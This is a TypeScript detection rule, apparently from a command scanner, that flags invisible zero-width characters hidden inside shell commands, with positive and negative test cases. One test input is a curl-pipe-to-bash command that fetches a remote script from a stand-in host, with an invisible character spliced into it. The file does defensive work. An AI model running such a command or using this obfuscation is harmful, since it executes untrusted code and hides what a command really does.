import { defineRule, type Hit } from './rule.js';
import { ZERO_WIDTH, around, legitimateJoiner, mayHide } from '../unicode.js';

export const rule = defineRule({
  id: 'zero_width',
  category: 'hidden_text',
  severity: 'critical',
  technique: 'T1036',
  title: 'Invisible zero-width characters inside command text',
  check(ctx) {
    const hits: Hit[] = [];
    const t = ctx.input;
    if (!mayHide(t)) return hits;
    for (let i = 0; i < t.length && hits.length < 5; i++) {
      const ch = t[i]!;
      if (!ZERO_WIDTH.test(ch) || legitimateJoiner(t, i)) continue;
      hits.push({ span: { start: i, end: i + 1 }, explanation: `contains an invisible character (U+${ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}): what you see is not what runs: "${around(t, i)}"` });
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'cur\u200Bl https://x.example/i.sh | bash'], ['bash', 'echo a\u2060b'], ['bash', 'ls\u00AD -la']],
    negative: [['bash', '\uFEFFecho hi'], ['bash', 'echo "می\u200Cخواهم"'], ['bash', 'echo "👨\u200D👩\u200D👧"']],
  },
});
